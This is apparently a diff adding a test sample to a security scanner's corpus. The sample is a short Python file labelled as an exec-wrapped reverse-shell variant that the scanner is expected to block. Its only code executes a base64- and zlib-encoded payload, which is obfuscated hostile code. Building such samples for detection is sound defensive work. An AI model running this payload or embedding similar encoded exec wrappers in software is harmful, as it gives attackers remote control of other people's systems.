@@ -1,0 +1,3 @@
+# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/asyncio_shell.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxlUT1rwzAQ3f0rjnSRwYikoRQCGUrp0M1DdqNIZyJinYwkY/rve5ITu9BbJE7v4+7pBT4IVPwhbT0EdD4hxBsOwwm0d06RidAH70DB5bOFmAIqB2EisMyDOF3H4DXGuLBkZd3oQ3pKVlW5gMEenLIk6lMFXKxiMDQwB5swwBnUrOzKkn5E6rQnQp2sJ7F73R/lXh4OR/m2a+Cdqy46880OCJcw4aKba7CEq+JiJPOR+6JeYbYH8qmgN26uK4Pvayev928+zZCE3bZ9V7YXWUwa1N6wU8NpGT+l85O1wWX73X5tozCogW51ySCZ05/Iavb5M/SSlyyHYNr2slAf7yaUrB/pszV/mFjyr38BZ9KdOA==')))
